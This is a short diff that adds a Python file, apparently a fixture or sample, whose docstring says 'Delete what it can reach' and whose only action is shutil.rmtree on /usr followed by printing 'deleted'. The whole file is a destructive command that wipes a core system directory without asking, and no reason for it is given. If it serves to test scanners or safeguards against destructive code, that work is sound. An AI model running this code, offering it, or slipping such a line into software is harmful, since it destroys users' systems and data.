@@ -1,0 +1,6 @@
+"""Delete what it can reach."""
+
+import shutil
+
+shutil.rmtree("/usr")
+print("deleted")
